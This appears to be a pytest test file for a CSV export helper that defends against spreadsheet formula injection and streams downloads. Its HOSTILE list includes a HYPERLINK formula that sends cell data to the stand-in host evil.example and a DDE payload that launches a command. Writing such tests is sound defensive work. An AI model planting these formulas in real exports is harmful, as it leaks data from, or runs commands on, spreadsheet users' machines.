"""The shared CSV mechanics: formula cells made inert, numbers kept, rows streamed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from core.exports import csv_text, safe_cell, streaming_csv

# Text an attacker can put in a name, an offence or a search box, and how it must be written.
# The first four are issue #12's examples; each reached a supervisor's spreadsheet unescaped.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click for details")',
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "-3",
    "+44 7700 900123",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_cell_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Smith", "Smith"),
        ("O'Brien", "O'Brien"),
        ("Anne-Marie", "Anne-Marie"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (-3, -3),
        (0, 0),
        (Decimal("-1.5"), Decimal("-1.5")),
        (-0.25, -0.25),
        (True, "yes"),
        (False, "no"),
        (dt.date(2024, 2, 29), "2024-02-29"),
    ],
)
def test_ordinary_text_numbers_dates_and_blanks_are_written_as_they_are(value, written):
    assert safe_cell(value) == written


def test_the_file_reads_back_with_every_hostile_cell_inert():
    text = csv_text(["name", "score"], [[h, -1] for h in HOSTILE])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == ["name", "score"]
    assert [r[0] for r in rows[1:]] == ["'" + h for h in HOSTILE]
    assert {r[1] for r in rows[1:]} == {"-1"}


def test_a_download_is_streamed_row_by_row_from_an_iterator():
    produced = []

    def rows():
        for n in range(3):
            produced.append(n)
            yield [n, f"=row {n}"]

    response = streaming_csv(filename="x.csv", header=["n", "text"], rows=rows())
    assert response.streaming and produced == []  # nothing is read before the first chunk
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    first = next(iter(response.streaming_content))
    assert first == b"n,text\r\n" and produced == []
    assert response.getvalue() == b"0,'=row 0\r\n1,'=row 1\r\n2,'=row 2\r\n"
